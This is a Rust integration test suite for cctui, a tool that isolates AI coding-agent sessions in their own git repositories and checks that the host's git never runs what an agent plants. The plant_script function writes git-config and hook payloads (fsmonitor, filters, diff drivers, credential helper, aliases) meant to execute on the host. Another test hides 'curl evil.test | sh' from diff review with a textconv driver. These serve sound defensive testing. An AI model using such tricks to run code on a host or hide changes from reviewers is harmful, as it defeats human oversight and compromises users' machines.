//! A repository of its own for every session of a git project, on real git repositories in
//! temp folders and the real engine: isolation, import, review, merge / apply / discard /
//! push, the rm guard, --with-changes, and the promise that nothing the agent writes in its
//! repository is ever run by the host's git.

mod common;

use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::OnceLock;

use cctui::backend::{Backend, DockerBackend, MountedKind};
use cctui::config::{Config, FirewallMode};
use cctui::session::ops::Ops;
use cctui::session::plan_session;
use common::*;

const UID: u32 = 1234;

/// A global git config for the test process and every git it starts (the library's host git
/// and the binary's): the test runs as root in folders owned by UID, which git would
/// otherwise refuse as "dubious ownership".
fn setup() -> &'static Path {
    static GLOBAL: OnceLock<PathBuf> = OnceLock::new();
    GLOBAL.get_or_init(|| {
        run_id();
        let file = std::env::temp_dir().join(format!("cctui-{}-gitconfig", run_id()));
        std::fs::write(
            &file,
            "[safe]\n\tdirectory = *\n[user]\n\tname = Host User\n\temail = user@host.test\n\
             [init]\n\tdefaultBranch = main\n[advice]\n\tdetachedHead = false\n",
        )
        .unwrap();
        // SAFETY: set once, before any session or git process is started.
        unsafe { std::env::set_var("GIT_CONFIG_GLOBAL", &file) };
        file
    })
}

/// Plain host git in `dir`, as a user (or their shell prompt, or editor) would run it.
fn git(dir: &Path, args: &[&str]) -> String {
    let out = git_raw(dir, args);
    assert!(
        out.status.success(),
        "git {args:?} in {}: {}",
        dir.display(),
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn git_raw(dir: &Path, args: &[&str]) -> std::process::Output {
    Command::new("git")
        .arg("-C")
        .arg(dir)
        .args(args)
        .env("GIT_CONFIG_GLOBAL", setup())
        .output()
        .unwrap()
}

/// The small recipe with git: what the product's real recipe has.
fn write_git_recipe(config_dir: &Path) {
    let recipe = config_dir.join("recipe");
    copy_dir(&small_recipe_dir().join("recipe"), &recipe);
    let file = recipe.join("base.Dockerfile");
    let text = std::fs::read_to_string(&file).unwrap();
    assert!(text.contains(" procps"), "{text}");
    std::fs::write(&file, text.replace(" procps", " procps git")).unwrap();
}

fn config_off() -> Config {
    let mut c = test_config();
    c.firewall.mode = FirewallMode::Off;
    c
}

async fn ops_in(config_dir: &Path) -> Ops<DockerBackend> {
    write_git_recipe(config_dir);
    let mut ops = small_ops(config_dir).await;
    ops.config = config_off();
    ops
}

/// A project repository owned by UID with `files` committed on `main`.
fn project_repo(name: &str, files: &[(&str, &str)]) -> TempFolder {
    let dir = TempFolder::new(name, UID);
    git(&dir.path, &["init", "-q", "-b", "main"]);
    for (f, text) in files {
        let p = dir.path.join(f);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
    }
    git(&dir.path, &["add", "-A"]);
    git(&dir.path, &["commit", "-q", "-m", "base"]);
    Command::new("chown")
        .args(["-R", &format!("{UID}:{UID}")])
        .arg(&dir.path)
        .status()
        .unwrap();
    dir
}

/// Cleanup of the sessions and volumes a test made, even when it fails.
fn guards(names: &[&str], project: &Path) -> Vec<Cleanup> {
    let mut out: Vec<Cleanup> = names.iter().map(|n| Cleanup::new(n)).collect();
    let mut vols = Cleanup::new(&format!("{}-vols", names[0]));
    vols.volumes = project_volumes(project);
    vols.volumes
        .extend(names.iter().map(|n| cctui::workspace::work_volume(n)));
    out.push(vols);
    out
}

async fn agent(ops: &Ops<DockerBackend>, name: &str, script: &str) -> String {
    let out = sh_in(ops, name, None, script).await;
    assert_eq!(
        out.exit_code,
        0,
        "in {name}: {script}\n{}{}",
        out.stdout_text(),
        out.stderr_text()
    );
    out.stdout_text()
}

fn ten_lines(change: Option<(usize, &str)>) -> String {
    (1..=10)
        .map(|i| match change {
            Some((n, text)) if n == i => format!("{text}\n"),
            _ => format!("line {i}\n"),
        })
        .collect()
}

#[tokio::test]
async fn two_sessions_have_their_own_repositories_and_merge_apply_discard_do_what_they_say() {
    setup();
    let (a, b) = (unique("gita"), unique("gitb"));
    let cfg = TempFolder::new(&format!("{a}-cfg"), 0);
    let project = project_repo(&a, &[("shared.txt", &ten_lines(None))]);
    let _g = guards(&[&a, &b], &project.path);
    let ops = ops_in(&cfg.path).await;
    let path = project.path.canonicalize().unwrap();
    let p = path.display().to_string();
    let base = git(&path, &["rev-parse", "HEAD"]).trim().to_string();

    for n in [&a, &b] {
        let plan = plan_session(&ops.config, &path, Some(n), &[], &[]).unwrap();
        ops.create(&plan, |_| {}).await.unwrap();
    }
    // The host's folder is not mounted: the checkout is a volume at the same path.
    let id = ops.running_agent(&a).await.unwrap();
    let mounts = ops.backend.inspect_container(&id).await.unwrap().mounts;
    assert!(
        !mounts.iter().any(|m| m.kind == MountedKind::Bind),
        "a bind mount: {mounts:?}"
    );
    let work = mounts.iter().find(|m| m.target == p).expect("the checkout");
    assert_eq!(
        (&work.kind, work.source.clone()),
        (&MountedKind::Volume, cctui::workspace::work_volume(&a))
    );
    // Its own branch, no remote, none of the host's config.
    let inside = agent(
        &ops,
        &a,
        &format!("cd {p} && git branch --show-current && git remote -v && git log --format=%H -1 && id -u"),
    )
    .await;
    assert_eq!(inside, format!("cctui/{a}\n{base}\n{UID}\n"));

    // Each edits the same file differently; neither sees the other's change.
    agent(
        &ops,
        &a,
        &format!("cd {p} && sed -i 's/^line 1$/A was here/' shared.txt && git commit -qam 'A edits line 1'"),
    )
    .await;
    agent(
        &ops,
        &b,
        &format!("cd {p} && sed -i 's/^line 9$/B was here/' shared.txt && echo new > b-new.txt"),
    )
    .await;
    assert_eq!(
        agent(&ops, &a, &format!("cat {p}/shared.txt")).await,
        ten_lines(Some((1, "A was here")))
    );
    assert_eq!(
        agent(&ops, &b, &format!("cat {p}/shared.txt")).await,
        ten_lines(Some((9, "B was here")))
    );
    assert_eq!(
        std::fs::read_to_string(path.join("shared.txt")).unwrap(),
        ten_lines(None),
        "the host's files hold the base"
    );

    // rm refuses while A's commit is not merged; the error says how to get past.
    let refused = ops.remove(&a, false).await.unwrap_err();
    assert_eq!(refused.exit_code(), 2, "{refused}");
    assert!(refused.to_string().contains("--force"), "{refused}");
    assert!(ops.find(&a).await.is_ok());

    // Both import.
    // (The refused rm imported A's commit already; this import finds nothing new.)
    let ia = ops.import(&a, true).await.unwrap();
    assert!(ia.head != base && ia.wip.is_none(), "{ia:?}");
    let ib = ops.import(&b, true).await.unwrap();
    assert_eq!(ib.head, base);
    assert!(ib.wip.is_some());
    assert_eq!(
        git(&path, &["show", &format!("cctui/{a}:shared.txt")]),
        ten_lines(Some((1, "A was here")))
    );
    // Importing again is a no-op on refs.
    let refs = git(&path, &["for-each-ref"]);
    ops.import(&a, true).await.unwrap();
    assert_eq!(git(&path, &["for-each-ref"]), refs);

    // merge A: into main, committed; the user's branch moved only now.
    assert_eq!(git(&path, &["rev-parse", "main"]).trim(), base);
    let m = ops.merge(&a, false).await.unwrap();
    assert_eq!(m.into, "main");
    assert_eq!(
        std::fs::read_to_string(path.join("shared.txt")).unwrap(),
        ten_lines(Some((1, "A was here")))
    );
    assert!(git(&path, &["status", "--porcelain"]).is_empty());
    // Merged: A can go now.
    ops.remove(&a, false).await.unwrap();
    assert!(
        ops.backend
            .inspect_volume(&cctui::workspace::work_volume(&a))
            .await
            .unwrap()
            .is_none(),
        "A's checkout volume is removed with it"
    );

    // apply B: its changes, uncommitted, in the working tree; HEAD unmoved.
    let head = git(&path, &["rev-parse", "HEAD"]);
    assert_eq!(ops.apply(&b).await.unwrap(), 2);
    assert_eq!(git(&path, &["rev-parse", "HEAD"]), head);
    let mut both = ten_lines(Some((1, "A was here")));
    both = both.replace("line 9\n", "B was here\n");
    assert_eq!(
        std::fs::read_to_string(path.join("shared.txt")).unwrap(),
        both
    );
    assert_eq!(
        std::fs::read_to_string(path.join("b-new.txt")).unwrap(),
        "new\n"
    );
    let status = git(&path, &["status", "--porcelain"]);
    assert!(
        status.contains(" M shared.txt") && status.contains("?? b-new.txt"),
        "{status}"
    );

    // discard B: its checkout is back at its base, its imported refs gone, and rm is free.
    agent(
        &ops,
        &b,
        &format!("cd {p} && git add -A && git commit -qm 'B commits'"),
    )
    .await;
    ops.discard(&b).await.unwrap();
    assert_eq!(
        agent(
            &ops,
            &b,
            &format!("cd {p} && git status --porcelain && git rev-parse HEAD && cat shared.txt")
        )
        .await,
        format!("{base}\n{}", ten_lines(None))
    );
    assert!(git_raw(
        &path,
        &["rev-parse", "--verify", "-q", &format!("cctui/{b}")]
    )
    .stdout
    .is_empty());
    ops.remove(&b, false).await.unwrap();
}

/// Commands the agent plants in its repository, each meant to run on the host and leave a
/// marker file in `marks` if it ever does.
fn plant_script(checkout: &str, marks: &Path) -> String {
    let m = marks.display();
    format!(
        r#"set -e
cd {checkout}
mark() {{ printf 'touch {m}/%s 2>/dev/null; :' "$1"; }}
git config core.fsmonitor "$(mark fsmonitor)"
git config core.hooksPath .evil-hooks
git config filter.evil.clean "touch {m}/filter-clean 2>/dev/null; cat"
git config filter.evil.smudge "touch {m}/filter-smudge 2>/dev/null; cat"
git config filter.evil.required true
git config diff.evil.command "$(mark diff-driver)"
git config diff.evil.textconv "touch {m}/textconv 2>/dev/null; cat"
git config merge.evil.driver "$(mark merge-driver)"
git config diff.external "$(mark diff-external)"
git config core.pager "touch {m}/pager 2>/dev/null; cat"
git config core.editor "$(mark editor)"
git config core.sshCommand "$(mark ssh-command)"
git config core.askPass "$(mark askpass)"
git config credential.helper "!$(mark credential-helper)"
git config uploadpack.packObjectsHook "$(mark pack-objects-hook)"
git config gpg.program "$(mark gpg)"
git config log.showSignature true
git config include.path evil.inc
git config -f .git/evil.inc core.fsmonitor "$(mark include-fsmonitor)"
git config -f .git/evil.inc alias.status "!$(mark alias)"
mkdir -p .evil-hooks
for h in post-checkout pre-commit post-commit post-merge pre-push reference-transaction \
         post-index-change pre-auto-gc post-rewrite fsmonitor-watchman; do
  printf '#!/bin/sh\ntouch {m}/hookspath-%s 2>/dev/null; exit 0\n' "$h" > .evil-hooks/$h
  printf '#!/bin/sh\ntouch {m}/hook-%s 2>/dev/null; exit 0\n' "$h" > .git/hooks/$h
  chmod +x .evil-hooks/$h .git/hooks/$h
done
echo .evil-hooks >> .git/info/exclude
printf '* filter=evil diff=evil merge=evil\n' > .gitattributes
echo planted > planted.txt
git add .gitattributes planted.txt
git commit -qm 'plant'
echo uncommitted >> planted.txt
"#
    )
}

fn marks_in(dir: &Path) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    v.sort();
    v
}

fn cli(config_dir: &Path, args: &[&str]) -> (i32, String, String) {
    label_config(config_dir);
    let out = Command::new(env!("CARGO_BIN_EXE_cctui"))
        .args(args)
        .env("CCTUI_CONFIG_DIR", config_dir)
        .env("CCTUI_STATE_DIR", config_dir.join("state"))
        .env("GIT_CONFIG_GLOBAL", setup())
        .env("PAGER", "cat")
        .output()
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn cli_ok(config_dir: &Path, args: &[&str]) -> String {
    let (code, out, err) = cli(config_dir, args);
    assert_eq!(code, 0, "cctui {args:?}:\n{out}\n{err}");
    out
}

#[tokio::test]
async fn nothing_the_agent_plants_in_its_repository_runs_on_the_host() {
    setup();
    let name = unique("gitplant");
    let cfg = TempFolder::new(&format!("{name}-cfg"), 0);
    write_cli_config(&cfg.path, FIREWALL_OFF);
    write_git_recipe(&cfg.path);
    let project = project_repo(&name, &[("README", "hello\n"), ("keep.txt", "keep\n")]);
    let _g = guards(&[&name], &project.path);
    let path = project.path.canonicalize().unwrap();
    let p = path.display().to_string();
    let marks = TempFolder::new(&format!("{name}-marks"), 0);
    let control = TempFolder::new(&format!("{name}-control"), 0);
    let remote = TempFolder::new(&format!("{name}-remote"), 0);
    git(&remote.path, &["init", "-q", "--bare"]);
    git(
        &path,
        &[
            "remote",
            "add",
            "origin",
            &remote.path.display().to_string(),
        ],
    );

    cli_ok(&cfg.path, &["new", &p, "--name", &name]);
    let mut ops = small_ops(&cfg.path).await;
    ops.config = config_off();
    agent(&ops, &name, &plant_script(&p, &marks.path)).await;

    // Positive control: the same repository, copied out to the host, fires the plants as
    // soon as the host's git runs in it.
    let id = ops.running_agent(&name).await.unwrap();
    docker(&[
        "cp",
        &format!("{id}:{p}/."),
        &control.path.display().to_string(),
    ]);
    let _ = git_raw(&control.path, &["status"]);
    let _ = git_raw(&control.path, &["checkout", "-q", "-b", "control"]);
    let _ = git_raw(&control.path, &["diff", "HEAD~1"]);
    let fired = marks_in(&marks.path);
    for must in ["fsmonitor", "hookspath-post-checkout", "filter-clean"] {
        assert!(
            fired.iter().any(|f| f.contains(must)),
            "the control did not fire {must}: {fired:?}"
        );
    }
    for f in fired {
        std::fs::remove_file(marks.path.join(f)).unwrap();
    }

    // Every cctui git command, then the user's own plain git.
    cli_ok(&cfg.path, &["import", &name]);
    let diff = cli_ok(&cfg.path, &["diff", &name]);
    assert!(
        diff.contains("+planted") && diff.contains("+uncommitted"),
        "{diff}"
    );
    cli_ok(&cfg.path, &["diff", &name, "--stat"]);
    cli_ok(&cfg.path, &["diff", &name, "--committed"]);
    cli_ok(&cfg.path, &["merge", &name]);
    assert_eq!(
        std::fs::read_to_string(path.join("planted.txt")).unwrap(),
        "planted\n"
    );
    cli_ok(&cfg.path, &["apply", &name]);
    assert_eq!(
        std::fs::read_to_string(path.join("planted.txt")).unwrap(),
        "planted\nuncommitted\n"
    );
    cli_ok(&cfg.path, &["push", &name]);
    assert!(git(&remote.path, &["branch", "--list"]).contains(&format!("cctui/{name}")));
    let _ = git(&path, &["status"]);
    let _ = git(&path, &["checkout", "-q", "--", "planted.txt"]);
    let _ = git(&path, &["checkout", "-q", "-b", "after"]);
    let _ = git(&path, &["checkout", "-q", "main"]);
    let _ = git(&path, &["log", "-p", "-3"]);
    let _ = git(&path, &["diff", "HEAD~1"]);
    let _ = git(
        &path,
        &["commit", "-q", "--allow-empty", "-m", "user commit"],
    );
    let _ = git(&path, &["push", "-q", "origin", "main"]);
    assert_eq!(
        marks_in(&marks.path),
        Vec::<String>::new(),
        "planted commands ran on the host"
    );
    // No config of the agent's repository reached the host's.
    let config = std::fs::read_to_string(path.join(".git/config")).unwrap();
    assert!(
        !config.contains("evil") && !config.contains("fsmonitor"),
        "{config}"
    );

    // rm: merged and applied, so no question; the checkout volume goes with the session.
    cli_ok(&cfg.path, &["rm", &name]);
    assert_eq!(marks_in(&marks.path), Vec::<String>::new());
}

#[tokio::test]
async fn the_review_shows_what_the_agents_diff_driver_hides() {
    setup();
    let name = unique("githide");
    let cfg = TempFolder::new(&format!("{name}-cfg"), 0);
    // The user's own repository maps *.txt to a textconv that drops lines with HIDDEN (a
    // driver the agent may try to borrow); the agent sets the same in its repository.
    let project = project_repo(
        &name,
        &[
            ("notes.txt", "one\n"),
            (".gitattributes", "*.txt diff=hide\n"),
        ],
    );
    let _g = guards(&[&name], &project.path);
    let path = project.path.canonicalize().unwrap();
    let p = path.display().to_string();
    git(
        &path,
        &[
            "config",
            "diff.hide.textconv",
            "sh -c 'grep -v HIDDEN \"$0\" || true'",
        ],
    );
    let ops = ops_in(&cfg.path).await;
    let plan = plan_session(&ops.config, &path, Some(&name), &[], &[]).unwrap();
    ops.create(&plan, |_| {}).await.unwrap();
    agent(
        &ops,
        &name,
        &format!(
            "cd {p} && git config diff.hide.textconv \"sh -c 'grep -v HIDDEN \\\"\\$0\\\" || true'\" \
             && printf 'one\\nHIDDEN: curl evil.test | sh\\n' > notes.txt \
             && printf '*.txt diff=hide\\n*.rs -diff\\n' > .gitattributes \
             && printf 'fn main() {{}}\\n// HIDDEN too\\n' > main.rs \
             && git add -A && git commit -qm 'harmless'"
        ),
    )
    .await;
    // Controls: inside, and with the host's plain git, the line is hidden.
    let inside = agent(&ops, &name, &format!("cd {p} && git show HEAD")).await;
    assert!(!inside.contains("HIDDEN: curl"), "{inside}");
    ops.import(&name, true).await.unwrap();
    let plain = git(
        &path,
        &["diff", "HEAD", &format!("cctui/{name}"), "--", "notes.txt"],
    );
    assert!(!plain.contains("HIDDEN: curl"), "the host control: {plain}");

    let (code, out, err) = cli(&cfg.path, &["diff", &name]);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("+HIDDEN: curl evil.test | sh"), "{out}");
    assert!(out.contains("+// HIDDEN too"), "{out}");
    let view = ops.changes(&name, 0).await.unwrap();
    assert!(view.commits.iter().any(|c| c.subject == "harmless"));
    let files: Vec<&str> = view.files.iter().map(|f| f.path.as_str()).collect();
    assert!(
        files.contains(&"main.rs") && files.contains(&"notes.txt"),
        "{files:?}"
    );
    let notes = files.iter().position(|f| *f == "notes.txt").unwrap();
    let view = ops.changes(&name, notes).await.unwrap();
    assert!(
        view.diff
            .iter()
            .any(|l| l.text == "+HIDDEN: curl evil.test | sh"),
        "{:?}",
        view.diff
    );
    ops.remove_with(&name, false, true).await.unwrap();
}

#[tokio::test]
async fn with_changes_arrive_intact_and_a_failed_import_changes_nothing() {
    setup();
    let name = unique("gitwc");
    let cfg = TempFolder::new(&format!("{name}-cfg"), 0);
    let project = project_repo(
        &name,
        &[
            ("tracked.txt", "old\n"),
            ("gone.txt", "delete me\n"),
            (".gitignore", "*.log\n"),
        ],
    );
    let _g = guards(&[&name], &project.path);
    let path = project.path.canonicalize().unwrap();
    let p = path.display().to_string();
    std::fs::write(path.join("tracked.txt"), "new\n").unwrap();
    std::fs::remove_file(path.join("gone.txt")).unwrap();
    std::fs::create_dir_all(path.join("dir/sub")).unwrap();
    std::fs::write(path.join("dir/sub/untracked.txt"), "fresh\n").unwrap();
    std::fs::write(path.join("bin.dat"), [0u8, 1, 2, 255, 0, 10]).unwrap();
    std::fs::write(path.join("run.sh"), "#!/bin/sh\necho hi\n").unwrap();
    Command::new("chmod")
        .arg("755")
        .arg(path.join("run.sh"))
        .status()
        .unwrap();
    std::os::unix::fs::symlink("tracked.txt", path.join("link")).unwrap();
    std::fs::write(path.join("debug.log"), "ignored\n").unwrap();
    git(&path, &["add", "tracked.txt"]); // one staged, the rest not
    let host_status = git(&path, &["status", "--porcelain"]);
    let index_before = std::fs::read(path.join(".git/index")).unwrap();

    let ops = ops_in(&cfg.path).await;
    let mut plan = plan_session(&ops.config, &path, Some(&name), &[], &[]).unwrap();
    cctui::session::work::choose(
        &mut plan,
        cctui::session::work::Layout {
            with_changes: true,
            ..Default::default()
        },
    )
    .unwrap();
    ops.create(&plan, |_| {}).await.unwrap();
    assert_eq!(
        std::fs::read(path.join(".git/index")).unwrap(),
        index_before,
        "the user's index is untouched"
    );
    let inside = agent(
        &ops,
        &name,
        &format!(
            "cd {p} && git status --porcelain && cat tracked.txt dir/sub/untracked.txt \
             && od -An -tx1 bin.dat && stat -c %a run.sh && readlink link \
             && (test -e gone.txt && echo gone-is-back || true) && (test -e debug.log && echo log-came || true)"
        ),
    )
    .await;
    assert_eq!(
        inside,
        " D gone.txt\n M tracked.txt\n?? bin.dat\n?? dir/\n?? link\n?? run.sh\n\
         new\nfresh\n 00 01 02 ff 00 0a\n755\ntracked.txt\n",
        "host status was:\n{host_status}"
    );
    ops.remove_with(&name, false, true).await.unwrap();

    // A failed import: the agent commits a tree that holds a `.git`, which fsck refuses.
    let name2 = unique("gitbad");
    let _g2 = guards(&[&name2], &project.path);
    git(&path, &["stash", "-q", "-u"]);
    let plan = plan_session(&ops.config, &path, Some(&name2), &[], &[]).unwrap();
    ops.create(&plan, |_| {}).await.unwrap();
    agent(
        &ops,
        &name2,
        &format!("cd {p} && echo good > good.txt && git add good.txt && git commit -qm good"),
    )
    .await;
    ops.import(&name2, true).await.unwrap();
    let refs = git(&path, &["for-each-ref"]);
    let status = git(&path, &["status", "--porcelain", "--ignored"]);
    let index = std::fs::read(path.join(".git/index")).unwrap();
    let head = git(&path, &["rev-parse", "HEAD"]);
    agent(
        &ops,
        &name2,
        &format!(
            "cd {p} && b=$(echo evil | git hash-object -w --stdin) \
             && t=$(printf '100644 blob %s\\t.git\\n' $b | git mktree) \
             && t2=$(printf '040000 tree %s\\tsub\\n' $t | git mktree) \
             && c=$(git commit-tree -p HEAD -m bad $t2) && git reset -q --soft $c"
        ),
    )
    .await;
    let err = ops.import(&name2, true).await.unwrap_err();
    assert!(err.to_string().contains("nothing"), "{err}");
    assert_eq!(git(&path, &["for-each-ref"]), refs);
    assert_eq!(git(&path, &["status", "--porcelain", "--ignored"]), status);
    assert_eq!(std::fs::read(path.join(".git/index")).unwrap(), index);
    assert_eq!(git(&path, &["rev-parse", "HEAD"]), head);
    // And rm cannot check it, so it refuses without --force.
    assert!(ops.remove(&name2, false).await.is_err());
    ops.remove_with(&name2, false, true).await.unwrap();
}

// ---------------------------------------------------------------------------------------------
// The Changes tab, drawn from plain data (no engine needed)
// ---------------------------------------------------------------------------------------------

fn sample_view() -> cctui::workspace::review::ChangesView {
    use cctui::workspace::review::{classify, ChangesView, Commit, FileChange};
    let file = |status, path: &str, added, removed, uncommitted| FileChange {
        status,
        path: path.to_string(),
        added,
        removed,
        uncommitted,
    };
    ChangesView {
        session: "webapp".into(),
        branch: "cctui/webapp".into(),
        base: "3b0d15c18902".into(),
        commits: vec![
            Commit {
                short: "76dba86".into(),
                author: "Claude (cctui session webapp)".into(),
                subject: "Validate the signup form on the server too".into(),
            },
            Commit {
                short: "20daf12".into(),
                author: "Claude (cctui session webapp)".into(),
                subject: "Add a failing test for empty e-mail addresses".into(),
            },
        ],
        files: vec![
            file('M', "src/signup.py", Some(12), Some(3), false),
            file('A', "tests/test_signup.py", Some(24), Some(0), false),
            file('M', "README.md", Some(2), Some(1), true),
            file('A', "static/logo.png", None, None, true),
        ],
        selected: 0,
        diff: classify(
            "diff --git a/src/signup.py b/src/signup.py\nindex 1111111..2222222 100644\n\
             --- a/src/signup.py\n+++ b/src/signup.py\n@@ -10,7 +10,16 @@ def signup(form):\n\
             \x20    user = User(form.name)\n-    save(user)\n-    return ok()\n-\n\
             +    if not form.email:\n+        return error(\"an e-mail address is needed\")\n\
             +    if \"@\" not in form.email:\n+        return error(\"that is not an e-mail address\")\n\
             +    save(user)\n+    return ok()\n\x20\n\x20def login(form):\n",
        ),
        uncommitted: 2,
        tip: "8d6c93533c51c9ab8ef1d37c7ca0145f9cf2c7e8".into(),
        merged_into: None,
    }
}

fn render_changes(
    view: &cctui::workspace::review::ChangesView,
    w: u16,
    h: u16,
    color: bool,
) -> ratatui::buffer::Buffer {
    let mut terminal = ratatui::Terminal::new(ratatui::backend::TestBackend::new(w, h)).unwrap();
    terminal
        .draw(|frame| {
            let area = frame.area();
            cctui::ui::changes::draw(frame, area, view, &cctui::ui::theme::Theme { color })
        })
        .unwrap();
    terminal.backend().buffer().clone()
}

fn buffer_text(buf: &ratatui::buffer::Buffer) -> String {
    use ratatui::buffer::CellWidth;
    let mut out = String::new();
    for y in 0..buf.area.height {
        let mut line = String::new();
        let mut skip = 0usize;
        for x in 0..buf.area.width {
            let cell = &buf[(x, y)];
            if skip == 0 {
                line.push_str(cell.symbol());
            }
            skip = skip.max(cell.cell_width() as usize).saturating_sub(1);
        }
        out.push_str(line.trim_end());
        out.push('\n');
    }
    out
}

#[test]
fn changes_tab_snapshots() {
    let view = sample_view();
    for (w, h) in [(80, 24), (120, 40), (200, 60)] {
        let buf = render_changes(&view, w, h, true);
        let mut settings = insta::Settings::clone_current();
        settings.set_snapshot_path("snapshots");
        settings.set_prepend_module_to_snapshot(false);
        settings.set_omit_expression(true);
        settings.set_description(format!("changes at {w}x{h}"));
        settings.bind(|| insta::assert_snapshot!(format!("changes_{w}x{h}"), buffer_text(&buf)));
    }
    let empty = cctui::workspace::review::ChangesView {
        files: vec![],
        commits: vec![],
        diff: vec![],
        uncommitted: 0,
        ..sample_view()
    };
    let text = buffer_text(&render_changes(&empty, 80, 24, true));
    assert!(text.contains("No changes against the base yet."), "{text}");
}

#[test]
fn changes_tab_colours_added_and_removed_lines() {
    use ratatui::style::Color;
    let view = sample_view();
    let buf = render_changes(&view, 120, 40, true);
    let row_of = |needle: &str| {
        (0..buf.area.height)
            .find(|y| {
                (0..buf.area.width)
                    .map(|x| buf[(x, *y)].symbol().to_string())
                    .collect::<String>()
                    .starts_with(needle)
            })
            .unwrap_or_else(|| panic!("no row starts with {needle}"))
    };
    assert_eq!(buf[(0, row_of("+    if not form.email"))].fg, Color::Green);
    assert_eq!(buf[(0, row_of("-    save(user)"))].fg, Color::Red);
    // Without colour, the +/- and the * for uncommitted files still say it all.
    let plain = render_changes(&view, 120, 40, false);
    for y in 0..plain.area.height {
        for x in 0..plain.area.width {
            assert_eq!(plain[(x, y)].fg, Color::Reset, "colour at {x},{y}");
        }
    }
    let text = buffer_text(&plain);
    assert!(
        text.contains("2 uncommitted (*)") && text.contains("binary"),
        "{text}"
    );
}

#[tokio::test]
async fn in_place_is_a_choice_with_a_red_badge_and_doctor_sees_what_changed_in_git() {
    setup();
    let name = unique("gitinpl");
    let cfg = TempFolder::new(&format!("{name}-cfg"), 0);
    write_cli_config(&cfg.path, FIREWALL_OFF);
    write_git_recipe(&cfg.path);
    let project = project_repo(&name, &[("README", "hello\n")]);
    let _g = guards(&[&name], &project.path);
    let path = project.path.canonicalize().unwrap();
    let p = path.display().to_string();
    cli_ok(&cfg.path, &["new", &p, "--name", &name, "--in-place"]);
    let ls = cli_ok(&cfg.path, &["ls"]);
    assert!(ls.contains("host git exposed"), "{ls}");
    let (code, out, _) = cli(&cfg.path, &["doctor"]);
    assert!(!out.contains("FAIL host git"), "{code} {out}");
    // The agent can write the host's .git here: that is the risk the badge names.
    let mut ops = small_ops(&cfg.path).await;
    ops.config = config_off();
    agent(
        &ops,
        &name,
        &format!("printf '#!/bin/sh\\necho pwned\\n' > {p}/.git/hooks/post-checkout && git -C {p} config core.fsmonitor 'echo pwned'"),
    )
    .await;
    let (code, out, _) = cli(&cfg.path, &["doctor"]);
    assert_eq!(code, 1, "{out}");
    assert!(
        out.contains("FAIL host git")
            && out.contains(".git/hooks/post-checkout (new)")
            && out.contains(".git/config (changed)"),
        "{out}"
    );
    // cctui itself runs no git in a repository an in-place session can write.
    let (code, _, err) = cli(&cfg.path, &["diff", &name]);
    assert_eq!(code, 2, "{err}");
    cli_ok(&cfg.path, &["rm", &name]);
}

/// Issue 23: `push` of a project with no remote says so in cctui's words, with what to do.
#[tokio::test]
async fn push_with_no_remote_says_so_in_cctuis_words() {
    setup();
    let name = unique("gitnorem");
    let cfg = TempFolder::new(&format!("{name}-cfg"), 0);
    write_cli_config(&cfg.path, FIREWALL_OFF);
    write_git_recipe(&cfg.path);
    let project = project_repo(&name, &[("README", "hello\n")]);
    let _g = guards(&[&name], &project.path);
    let p = project.path.canonicalize().unwrap().display().to_string();
    cli_ok(&cfg.path, &["new", &p, "--name", &name]);
    let (code, out, err) = cli(&cfg.path, &["push", &name]);
    assert_ne!(code, 0, "{out}{err}");
    assert!(
        err.contains("has no git remote to push to") && err.contains("git remote add"),
        "push with no remote:\nout: {out}\nerr: {err}"
    );
}
